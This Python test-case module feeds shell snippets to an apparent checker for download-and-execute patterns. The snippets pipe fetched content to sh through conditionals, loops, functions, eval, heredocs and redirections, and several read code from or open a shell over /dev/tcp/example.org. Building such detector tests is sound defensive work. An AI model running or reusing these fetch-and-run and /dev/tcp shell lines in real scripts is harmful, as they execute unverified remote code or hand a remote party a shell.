"""Statements, redirections, variables by branch, and how far is looked."""

from __future__ import annotations

from tests.unit.checks.scripts.cases.making import FETCH, GET, SUM, URL, lines

RUN = f"{FETCH} | sh"
STATEMENTS = [
    *lines(
        f"""
        if {RUN}; then :; fi
        if true; then {RUN}; elif {RUN}; then {RUN}; else {RUN}; fi
        if [[ -f a ]]; then x=sh; else x=cat; fi; {FETCH} | $x
        if [[ -f a ]]; then x=cat; else x=sh; fi; {FETCH} | $x
        if [[ -f a ]]; then x=cat; elif [[ -f b ]]; then x=sh; fi; {FETCH} | $x
        x=sh; if [[ -f a ]]; then x=cat; fi; {FETCH} | $x
        x=sh; if [[ -f a ]]; then x=cat; else x=tee; fi; {FETCH} | $x
        x=sh; if [[ -f a ]]; then x=cat; elif true; then x=tee; else x=tac; fi; {FETCH} | $x
        if [[ -f a ]]; then u={URL} x=one; else u=http://localhost/ x=two; fi; curl -fsSLo $x $u
        if [[ -f a ]]; then a=a b=b; else a=c b=d; fi; npm i -g $a-$b
        if [[ -f a ]]; then a=a; else a=c; fi; b=$a; npm i -g $a-$b
        if [[ -f a ]]; then a=a; else a=a; fi; npm i -g $a $a
        if [[ -f a ]]; then a=1; elif x; then a=2; elif y; then a=3; elif z; then a=4; else a=5; fi; npm i -g x$a; npm i -g y$a
        if [[ -f a ]]; then b=1; fi; npm i -g x$b
        if [[ -f a ]]; then unset b; fi; npm i -g x$b
        b=2; if [[ -f a ]]; then unset b; fi; npm i -g x$b
        b=2; if [[ -f a ]]; then b+=3; fi; npm i -g x$b
        if x=$({FETCH}); then eval "$x"; fi
        if {FETCH}; then :; fi | sh
        if true; then {FETCH}; fi | sh
        if true; then :; else {FETCH}; fi | sh
        if echo a; then echo b; fi | sh
        if echo a; then echo b; fi >got; bash got
        {FETCH} | if true; then sh; fi
        {FETCH} | if sh; then :; fi
        case $1 in a) x=sh ;; *) x=cat ;; esac; {FETCH} | $x
        x=sh; case $1 in a) x=cat ;; esac; {FETCH} | $x
        x=sh; case $1 in a) x=cat ;; *) x=tee ;; esac; {FETCH} | $x
        x=sh; case $1 in *) x=cat ;; b) x=tee ;; esac; {FETCH} | $x
        case $1 in a) {RUN} ;; b|c) {RUN} ;; esac
        case a in a) {FETCH} ;; esac | sh
        case "$({RUN})" in a) ;; esac
        case a in "$({RUN})") ;; esac
        case a in esac
        {FETCH} | case a in a) sh ;; esac
        for i in sh cat; do {FETCH} | $i; done
        for i in a b; do {FETCH}/$i; done | sh
        for i in a b; do echo $i; done | sh
        for i; do {RUN}; done
        for i in; do {RUN}; done
        for i in $x; do {RUN}; done
        for i in $(ls); do bash $i; done
        for i in {{1..3}}; do npm i -g x$i; done
        for i in 1 2 3; do x+=$i; done; npm i -g $x
        for i in {" ".join(map(str, range(31)))} last; do npm i -g x$i; done
        for i in {" ".join(map(str, range(32)))} last; do npm i -g x$i; done
        {FETCH} | for i in 1; do sh; done
        {FETCH} | for i in 1 2; do cat; done | sh
        {FETCH} | for i in $x; do sh; done
        {FETCH} | for i; do cat; done | sh
        set -- sh cat; for i; do {FETCH} | $i; done
        f() {{ for i; do bash $i; done; }}; {FETCH} -o got; f got
        for ((i = 0; i < 3; i++)); do {RUN}; done
        while true; do {RUN}; done
        until {RUN}; do :; done
        while read -r x; do eval "$x"; done < <({FETCH})
        {FETCH} | while read -r x; do eval "$x"; done
        {FETCH} | while cat; do :; done | sh
        x=sh; while [[ -f a ]]; do x=cat; done; {FETCH} | $x
        while true; do {FETCH}; done | sh
        select i in a; do {RUN}; done
        ({RUN}); {{ {RUN}; }}
        ({FETCH}) | sh
        {{ {FETCH}; }} | sh
        {FETCH} | (sh)
        {FETCH} | {{ cat; }} | sh
        x=sh; (x=cat); {FETCH} | $x
        x=sh; {{ x=cat; }}; {FETCH} | $x
        true && {RUN} || true
        {FETCH} | true && sh
        {FETCH} | (true; sh)
        (true && {FETCH}) | sh
        (true || {FETCH}; true) | sh
        {FETCH} || true | sh
        true | {FETCH} | sh | cat
        true |& {FETCH} |& sh
        {RUN} & wait
        ! {RUN}
        time {RUN}
        true # {RUN}
        [[ -n $({RUN}) ]]
        [[ -n $({RUN}) && a == b ]]
        [[ ( -n $({RUN}) ) || a == b ]]
        [[ a == $({RUN}) ]]
        [[ ! $({RUN}) ]]
        [[ $({RUN}) -eq 1 ]]
        [ -n "$({RUN})" ]
        test -n "$({RUN})"
        (( $({RUN}) ))
        (( x = 1, $({RUN}) ))
        echo $(( 1 + $({RUN}) ))
        echo "${{x:-$({RUN})}}" "${{x:+$({RUN})}}" ${{x/a/$({RUN})}}
        echo ${{a[$({RUN})]}}
        x=$({RUN}) true
        x=$({RUN})
        x+=$({RUN})
        a=($({RUN}))
        a+=(x "$({RUN})")
        declare x=$({RUN})
        export "x=$({RUN})"
        local x="$({RUN})"
        f() {{ {RUN}; }}
        f() {{ {RUN}; }}; f; f
        f() {{ {FETCH}; }}; f | sh
        f() {{ sh; }}; {FETCH} | f
        f() {{ bash -c "$1"; }}; f '{RUN}'
        f() ( {RUN} ); f
        f() {{ g; }}; g() {{ h; }}; h() {{ {RUN}; }}
        f() {{ f; {RUN}; }}; f
        f() {{ "$@"; }}; f sh -c '{RUN}'
        f() {{ local x=sh; {FETCH} | $x; }}; x=cat; f
        f() {{ x=sh; }}; x=cat; f; {FETCH} | $x
        f() {{ return; {RUN}; }}; f
        f() {{ {RUN}; }} >/dev/null; f
        f() if true; then {RUN}; fi; f
        f() {{ npm i -g "$1"; }}; f a; f b; f a
        f() {{ npm i -g $RANDOM$1; }}; {"; ".join(f"f {i}" for i in range(14))}
        f() {{ echo x; }}; {"; ".join("f" for _ in range(13))}; f | sh
        function f {{ {RUN}; }}
        unset -f f; f
        curl() {{ echo x; }}; curl | sh
        {FETCH} | $UNKNOWN
        {FETCH} | $UNKNOWN sh
        {FETCH} | $UNKNOWN -x sh
        {FETCH} | $A $B $C sh
        {FETCH} | $A{" $X" * 63} sh
        {FETCH} | $A{" $X" * 64} sh
        {FETCH} | $A{" $X" * 65} sh
        $SUDO {FETCH} | $SUDO sh
        $UNKNOWN | sh
        $UNKNOWN {FETCH} | sh
        $A npm i -g wanted
        $A b=c npm i -g wanted
        {FETCH} | $A cat | sh
        {FETCH} | "$A/sh"
        {FETCH} | $A/x
        {FETCH} | x$A
        {FETCH} | $A x
        {FETCH} | ./*sh
        {FETCH} | /bin/ba?h
        {FETCH} | /???/s[h]
        {FETCH} | nothing*
        $({FETCH})
        $({FETCH}) x
        "x$({FETCH})"
        `{FETCH}`
        x=$({FETCH}); $x; "$x" y; sudo $x; env $x; x $x
        {FETCH} -o x; x=x; ./$x; "$x"; sudo ./x
        {FETCH} -o a/x; PATH=$PWD/a:$PATH; x
        $SHELL -c '{RUN}'
        $BASH i.sh
        shell=$SHELL; {FETCH} | $shell
        a=(sh cat); {FETCH} | ${{a[0]}}; {FETCH} | ${{a[1]}}; {FETCH} | ${{a[-1]}}; {FETCH} | ${{a[-2]}}; {FETCH} | ${{a[9]}}; {FETCH} | $a
        a=(cat sh); {FETCH} | ${{a[$i]}}
        a=(cat sh); {FETCH} | "${{a[@]:1}}"
        a=(); {FETCH} | "${{a[@]}}"
        declare -A a=([x]=sh [y]=cat); {FETCH} | ${{a[x]}}; {FETCH} | ${{a["y"]}}; {FETCH} | ${{a[$k]}}
        k=x; declare -A a=([x]=cat [y]=sh); {FETCH} | ${{a[$k]}}
        a[0]=cat; a[1]=sh; {FETCH} | ${{a[1]}}
        a=({" ".join(f"p{i}" for i in range(256))} last more); npm i -g ${{a[255]}} ${{a[256]}} ${{a[257]}}
        read -ra a <<< "sh -x"; {FETCH} | "${{a[@]}}"
        x=sh; y=x; {FETCH} | ${{!y}}; {FETCH} | ${{!z}}
        {FETCH} | ${{x:-sh}}; {FETCH} | ${{x-sh}}; {FETCH} | ${{x:=sh}}; {FETCH} | $x
        x=SH; {FETCH} | ${{x,,}}; y=${{x@L}}; {FETCH} | $y; {FETCH} | ${{x~~}}
        x=sh; {FETCH} | ${{x@Q}}; {FETCH} | ${{#x}}; {FETCH} | ${{x:?}}; {FETCH} | ${{x?}}
        x=xsh; {FETCH} | ${{x:$n}}; {FETCH} | ${{x#$n}}; {FETCH} | ${{x/$n/}}; {FETCH} | ${{x/[x]/}}; {FETCH} | ${{x/x*/}}; {FETCH} | ${{x/?/}}
        x=sh:; {FETCH} | ${{x%:}}; {FETCH} | ${{x%%:*}}; {FETCH} | ${{x%"$n"}}
        {FETCH} | ${{n#x}}; {FETCH} | ${{n:1}} sh; {FETCH} | ${{n^^}} sh
        x=$({FETCH}); eval "${{x#a}}"; eval "${{x:1:2}}"; eval "${{x^^}}"; eval "${{x/a/b}}"; eval "${{x:-a}}"; eval "${{x:+a}}"
        x=$({FETCH}); y=$x; z="a $y"; eval "$z"; eval "$y b"
        n=1; {FETCH} -o "f$n"; bash "f$n"; bash "f${{n}}"
        {FETCH} -o "${{x#a}}"; bash "${{x#a}}"; bash "${{x#b}}"
        {FETCH} -o "${{x}}"; bash "$x"; bash "${{y}}"; bash "${{#x}}"; bash "${{!x}}"
        {FETCH} -o "${{#x}}"; bash "${{#x}}"
        {FETCH} -o "${{a[1]}}"; bash "${{a[1]}}"; bash "${{a[2]}}"
        {FETCH} -o "$@"; bash "$@"; bash "$*"
        {FETCH} -o "$1000"; bash "$1000"
        f() {{ bash "$1000" "${{1000}}"; }}; f a
        f() {{ bash "${{10}}"; }}; {FETCH} -o got; f 1 2 3 4 5 6 7 8 9 got
        f() {{ bash "$0"; bash "${{01}}"; }}; {FETCH} -o got; f got
        """
    ),
    f"if [[ -f a ]]; then\n  # a comment\n  {RUN}\nfi\n",
    f"{FETCH} | # a comment\n  sh\n",
    f"true && # a comment\n  {RUN}\n",
    f"case a in\n  # a comment\n  a) {RUN} ;;\nesac\n",
    f"for i in a; do # a comment\n  {RUN}\ndone\n",
    f"x=(\n  # a comment\n  sh # another\n)\n{FETCH} | $x\n",
    "npm i -g a \\\n  b # c\nnpm i -g d\n",
]
DEEP = [
    "(" * 40 + RUN + ")" * 40 + "\n",
    "(" * 45 + RUN + ")" * 45 + "\n",
    "(" * 46 + RUN + ")" * 46 + "\n",
    "(" * 47 + RUN + ")" * 47 + "\n",
    "(" * 60 + RUN + ")" * 60 + "\n" + RUN + "\n",
    "(" * 30 + "true" + ")" * 30 + "; " + "(" * 30 + RUN + ")" * 30 + "\n",
    "$(" * 20 + RUN + ")" * 20 + "\n",
    "echo $(" * 24 + RUN + ")" * 24 + "\n",
    "eval " * 5 + f"'{RUN}'\n",
    "eval " * 6 + f"'{RUN}'\n",
    "eval eval eval eval eval eval eval eval true; " + "eval " * 5 + f"'{RUN}'\n",
    f"f() {{ eval '{RUN}'; }}; eval eval eval eval f\n",
    "".join(f"f{i}() {{ f{i + 1}; }}\n" for i in range(7)) + f"f7() {{ {RUN}; }}\nf0\n",
    "".join(f"f{i}() {{ f{i + 1}; }}\n" for i in range(9)) + f"f9() {{ {FETCH}; }}\nf0 | sh\n",
    "".join(f"f{i}() {{ f{i + 1}; }}\n" for i in range(9)) + f"f9() {{ sh; }}\n{FETCH} | f0\n",
    "f() { true; }\n" + "f\n" * 20 + RUN + "\n",
    "x=a\n" + 'x="$x$x"\n' * 12 + RUN + "\n",
    "x=$a\n" + 'x="$x b $x"\n' * 10 + f'curl "$x"\neval "$x"\n{RUN}\n',
    f"x=$({FETCH})\n" + 'x="$x b $x"\n' * 10 + 'eval "$x"\n',
    f"alias a='{RUN}'\n" + "a\n" * 3,
    f"npm i -g {' '.join(f'p{i}' for i in range(40))}\n" * 30,
    "for i in 1 2 3 4 5 6 7 8; do for j in 1 2 3 4 5 6 7 8; do for k in 1 2 3 4 5 6 7 8; do for l in 1 2 3 4 5 6 7 8; do for m in 1 2 3 4 5 6; do x; done; done; done; done; done\n",
    "eval '" + "true; " * 3000 + RUN + "'\n",
    ": <<E\n" + "$(true) " * 300 + f"$({RUN})\nE\n",
    "printf '%s' " + "a$x " * 120 + "\n",
    f"printf '%s' {'a ' * 120}\n",
]
REDIRECTS = [
    *lines(
        f"""
        {FETCH} >got; bash got
        {FETCH} >>got; bash got
        {FETCH} >|got; bash got
        {FETCH} &>got; bash got
        {FETCH} &>>got; bash got
        {FETCH} >&got; bash got
        {FETCH} 1>got; bash got
        {FETCH} 2>got; bash got
        {FETCH} 2>/dev/null | sh
        {FETCH} 2>&1 | sh
        {FETCH} >&2 | sh
        {FETCH} 1>&2 >got; bash got
        {FETCH} >&- | sh
        {FETCH} >/dev/null | sh
        {FETCH} >/dev/stdout | sh
        {FETCH} >&1 | sh
        {FETCH} >got 2>&1; bash got
        {FETCH} > one > two; bash one; bash two
        >got {FETCH}; bash got
        >got; bash got
        echo a >got; {FETCH} >>got; bash got
        {FETCH} >got; echo a >>got; bash got
        {FETCH} >got; echo a >got; bash got
        {FETCH} >got; bash <got
        {FETCH} >got; bash 0<got
        {FETCH} >got; bash 0< got
        {FETCH} >got; bash 3<got
        {FETCH} >got; bash 3<got <&3
        {FETCH} >got; bash 3<got /dev/fd/3
        {FETCH} >got; bash 13<got /dev/fd/13
        {FETCH} >got; bash /proc/self/fd/3 3<got
        {FETCH} >got; bash /proc/$$/fd/3 3<got
        {FETCH} >got; bash 3<got 0<&3
        {FETCH} >got; bash <>got
        {FETCH} >got; bash 3<>got <&3
        {FETCH} >got; bash <got <other
        {FETCH} >got; bash <other <got
        {FETCH} >got; <got bash
        {FETCH} >got; bash <&0
        {FETCH} >got; bash <<<"$(<got)"
        {FETCH} >got; x=$(<got); eval "$x"
        {FETCH} >got; eval "$(< got)"
        {FETCH} >got; eval "$(<other)"
        {FETCH} >got; (bash) <got
        {FETCH} >got; {{ bash; }} <got
        {FETCH} >got; if true; then bash; fi <got
        {FETCH} >got; while true; do bash; done <got
        {FETCH} >got; true | bash <got
        {FETCH} >got; true && bash <got
        {FETCH} >got; bash <got && true
        {FETCH} >got; cat <got | bash
        {FETCH} >got; cat <got >other; bash other
        {FETCH} | sh >log
        {FETCH} | sh >log 2>&1 <other
        true | {FETCH} >got; bash got
        true && {FETCH} >got; bash got
        {FETCH} && true >got; bash got
        ({FETCH}) >got; bash got
        {{ {FETCH}; echo a; }} >got; bash got
        for i in a; do {FETCH}; done >got; bash got
        bash <({FETCH})
        bash < <({FETCH})
        bash 3< <({FETCH}) /dev/fd/3
        source <({FETCH})
        cat <({FETCH}) | sh
        cat <(echo a) <({FETCH}) | sh
        {FETCH} > >(sh)
        {FETCH} | tee >(sh) >/dev/null
        {FETCH} | tee >(sh >log) other
        {FETCH} > >(cat >got); bash got
        bash <<< "$({FETCH})"
        bash <<<'{RUN}'
        bash <<< "{RUN}" >log
        bash >log <<< "{RUN}"
        bash 2>log <<< "{RUN}"
        bash <<< $x
        cat </dev/tcp/example.org/80 | sh
        bash </dev/tcp/example.org/80
        bash < /dev/udp/example.org/80
        exec 3<>/dev/tcp/example.org/80; bash <&3
        exec 3<>/dev/tcp/example.org/80; cat <&3 >got; bash got
        bash 3>/dev/tcp/example.org/80 <&3
        bash >/dev/tcp/example.org/80 0<&1
        cat <"/dev/tcp/$host/80" | sh
        bash </dev/tty
        echo 3 >got; echo a3>got
        echo 2 > got; npm i -g a 2>got b
        npm i -g 2 >got
        npm i -g a>got b
        exec >log 2>&1; {RUN}
        exec 3>&1; {RUN} >&3
        coproc {FETCH}; bash <&"${{COPROC[0]}}"
        cat <<<a b
        cat < a < b <<< c | sh
        """
    ),
    *[
        f"{start}\n{body}\nE\n{after}"
        for start, body, after in (
            ("bash <<E", RUN, ""),
            ("bash <<'E'", RUN, ""),
            ("bash -s <<E", RUN, ""),
            ("bash <<-E", f"\t{RUN}", ""),
            ("cat <<E | sh", RUN, ""),
            ("cat <<E | tr a b | sh", RUN, ""),
            ("cat <<E >got", RUN, "bash got\n"),
            ("cat >got <<E", RUN, "bash got\n"),
            ("cat <<E >>got", RUN, "bash got\n"),
            ("cat <<E && sh", RUN, ""),
            (f"cat <<E && {RUN}", "x", ""),
            (f"cat <<E || {RUN}", "x", ""),
            ("bash <<E >log", RUN, ""),
            ("bash <<E 2>&1 | tee log", RUN, ""),
            ("sudo bash <<E", RUN, ""),
            ("sudo -u me bash -e <<E -x", RUN, ""),
            ("cat - <<E | sh", RUN, ""),
            ("cat <<E /dev/stdin | sh", RUN, ""),
            ('npm i -g <<E a $x \'b c\' "d$x" e"f" 1', "x", ""),
            ("tee got <<E >/dev/null", RUN, "bash got\n"),
            ("3<<E bash /dev/fd/3", RUN, ""),
            ("bash /dev/fd/3 3<<E", RUN, ""),
            ("{ bash; } <<E", RUN, ""),
            ('while read -r x; do eval "$x"; done <<E', RUN, ""),
            ("f() { bash; }; f <<E", RUN, ""),
            ("true && bash <<E", RUN, ""),
            ("true | bash <<E", RUN, ""),
            ("if bash <<E; then :; fi", RUN, ""),
            ("x=$(cat <<E", RUN, ')\neval "$x"\n'),
            ("bash <<E", "x='\n" + RUN + "\n'", ""),
            ("bash <<E", f"\\$(true); {RUN}", ""),
            ("bash <<E", f"$x {RUN}", ""),
            ("bash <<E", f"$(echo {URL}) | sh", ""),
            ("bash <<E", f"$({FETCH})", ""),
            ("bash <<E", f"echo $({FETCH})", ""),
            ("bash <<E", f"curl \\\n  {URL} | sh", ""),
            ("cat <<E", RUN, ""),
            ("bash <<E", f"`{FETCH}`", ""),
            ("bash <<E", f"\\`{FETCH}\\`", ""),
            ("cat <<E", "${x:-`" + RUN + "`}", ""),
            ("cat <<E", "$((1 + $(" + RUN + ")))", ""),
            ("cat <<E", "$(case a in a) " + RUN + " ;; esac)", ""),
            ("cat <<E", f"`echo \\`{RUN}\\``", ""),
            ("cat <<E", f"é $({RUN})", ""),
            ("cat <<E", f"$x $({RUN}\n) $(\n{RUN})", ""),
            ("cat <<E", "$(echo ')' '(' \")\" \"$(" + RUN + ')")', ""),
            ("cat <<E", "\\\\$(" + RUN + ")", ""),
            ("cat <<E", "\\$(" + RUN + ")", ""),
            ("cat <<'E'", "$(" + RUN + ")", ""),
            ("cat <<E", "${x:-$(" + RUN + ")} ${x#'}'} ${x:-\"}\"}$(" + RUN + ")", ""),
            ("cat <<E", "${x:-\\}$(" + RUN + ")} $(echo '\\')", ""),
            ("cat <<E", "$(", ""),
            ("cat <<E", f"$({RUN}", ""),
            ("cat <<E", "`", ""),
            ("cat <<E", "${", ""),
            ("cat <<E", "$ $. $%", ""),
            ("cat <<E", "$1 $@ $* $# $? $$ $! $- $_ ${10}", ""),
            ('eval "$(cat <<E', f"  $({FETCH})", ')"\n'),
            ("bash -c 'cat <<F", f"$({RUN})\nF\n'; cat <<E", ""),
            ("cat <<E", "$(cat <<F\n$(" + RUN + ")\nF\n)", ""),
            ("cat <<E", "$(echo {a; echo }; " + RUN + ")", ""),
            ("cat <<E", "${x:-{}$(" + RUN + ")}", ""),
        )
    ],
    "cat <<A <<B\na\nA\nb\nB\n",
    "cat <<EOF\nx\n EOF\nEOF\n",
    "cat <<EOF\nEOFX\nEOF\n",
    "cat <<EOF\nx\\\nEOF\nEOF\n",
    "cat <<EOF\nx\\\\\nEOF\n",
    "cat <<EOF\nx\\\\\\\nEOF\nEOF\n",
    "cat <<EOF\na\\\nb\nEO\\\nF\nEOF\n",
    "cat <<'EOF'\nx\\\nEOF\n",
    "cat <<-EOF\n\tx\n\tEOF\n",
    "cat <<-EOF\n x\n EOF\nEOF\n",
    "cat <<EOF\n\tEOF\nEOF\n",
    "cat <<-'EOF'\n\tx\n\tEOF\n",
    "cat <<\\EOF\nx\nEOF\n",
    "cat <<E\\OF\nx\nEOF\n",
    "cat <<'E F'\nx\nE F\n",
    'cat <<"EOF"\nx\nEOF\n',
    "cat <<'EO'F\nx\nEOF\n",
    "cat <<$x\ny\n$x\n",
    "cat <<$(x)\ny\n$(x)\n",
    "cat <<${x}\ny\n${x}\n",
    "cat <<EOF\nx\n",
    "cat <<EOF\nEOF\n",
    "cat <<EOF",
    "cat <<EOF\n\nEOF\necho\ncat <<EOF\n\nEO\nEOF\n",
    "true\ntrue\ncat <<EOF\nx\n EOF\nEOF\n",
    "cat <<é\nx\né\n",
]
CHECKED = [
    *lines(
        f"""
        echo '{SUM}  i.sh' | sha256sum -c - || true
        echo '{SUM}  i.sh' | sha256sum -c - || :
        echo '{SUM}  i.sh' | sha256sum -c - || echo bad
        echo '{SUM}  i.sh' | sha256sum -c - || echo bad >&2
        echo '{SUM}  i.sh' | sha256sum -c - || printf bad
        echo '{SUM}  i.sh' | sha256sum -c - || /bin/true
        echo '{SUM}  i.sh' | sha256sum -c - || /usr/bin/true
        echo '{SUM}  i.sh' | sha256sum -c - || exit 1
        echo '{SUM}  i.sh' | sha256sum -c - || {{ echo bad; exit 1; }}
        echo '{SUM}  i.sh' | sha256sum -c - || die bad
        echo '{SUM}  i.sh' | sha256sum -c - || exit 1 || true
        echo '{SUM}  i.sh' | sha256sum -c - && echo good || true
        true || echo '{SUM}  i.sh' | sha256sum -c -
        echo '{SUM}  i.sh' | sha256sum -c - || true && true
        true && echo '{SUM}  i.sh' | sha256sum -c -
        f() {{ echo bad; }}; echo '{SUM}  i.sh' | sha256sum -c - || f
        f() {{ echo bad; exit 1; }}; echo '{SUM}  i.sh' | sha256sum -c - || f
        f() {{ die; }}; echo '{SUM}  i.sh' | sha256sum -c - || f 2>&1
        f() {{ echo '{SUM}  i.sh' | sha256sum -c -; }}; f
        f() {{ echo '{SUM}  i.sh' | sha256sum -c -; }}; f || true
        f() {{ echo '{SUM}  i.sh' | sha256sum -c -; }}
        f() {{ echo '{SUM}  i.sh' | sha256sum -c - || true; }}; f
        (echo '{SUM}  i.sh' | sha256sum -c -) || true
        {{ echo '{SUM}  i.sh' | sha256sum -c -; }} || true
        bash -c "echo '{SUM}  i.sh' | sha256sum -c -" || true
        x=$(echo '{SUM}  i.sh' | sha256sum -c -) || true
        if echo '{SUM}  i.sh' | sha256sum -c -; then bash i.sh; fi
        if ! echo '{SUM}  i.sh' | sha256sum -c -; then exit 1; fi
        [[ -f a ]] || echo '{SUM}  i.sh' | sha256sum -c -
        set +e; echo '{SUM}  i.sh' | sha256sum -c -
        set +e; echo '{SUM}  i.sh' | sha256sum -c - || exit 1
        set +e; echo '{SUM}  i.sh' | sha256sum -c - && true
        set +e; if true; then echo '{SUM}  i.sh' | sha256sum -c -; fi
        set +e; if echo '{SUM}  i.sh' | sha256sum -c -; then :; fi
        set +e; if true; then :; fi; echo '{SUM}  i.sh' | sha256sum -c -
        set +e; true && true; echo '{SUM}  i.sh' | sha256sum -c -
        set +e; echo '{SUM}  i.sh' | sha256sum -c -; set -e; echo '{SUM}  i.sh' | sha256sum -c -
        echo '{SUM}  i.sh' | sha256sum -c - >log || true
        echo '{SUM}  i.sh' | sha256sum -c - >log
        sha256sum -c - <<< '{SUM}  i.sh' || true
        true | false || true; sha256sum -c - <<< '{SUM}  i.sh'
        """,
        GET,
        "bash i.sh\n",
    )
]
EVERY = [*STATEMENTS, *DEEP, *REDIRECTS, *CHECKED]
